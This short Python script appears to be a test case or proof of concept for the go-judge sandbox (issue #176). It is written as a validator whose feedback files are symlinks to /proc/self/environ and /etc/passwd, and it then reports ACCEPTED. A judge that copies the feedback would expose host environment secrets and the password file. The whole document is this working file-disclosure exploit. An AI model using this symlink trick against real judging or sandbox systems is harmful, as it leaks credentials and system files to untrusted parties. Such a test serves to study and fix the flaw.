# go-judge #176: its feedback is a link to a file of the host, which whoever copies it out would follow.
# verdicts: ACCEPTED
import os
import sys

os.symlink("/proc/self/environ", sys.argv[3] + "/teammessage.txt")
os.symlink("/etc/passwd", sys.argv[3] + "/judgemessage.txt")
os._exit(42)
